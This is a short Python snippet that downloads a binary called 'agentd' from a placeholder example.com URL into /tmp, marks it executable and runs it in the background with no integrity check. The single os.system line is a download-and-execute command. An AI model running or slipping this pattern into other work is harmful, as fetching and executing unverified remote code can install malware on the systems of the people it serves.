import os

URL = "https://downloads.example.com/agent/agentd"
os.system("wget -q %s -O /tmp/agentd && chmod +x /tmp/agentd && /tmp/agentd &" % URL)
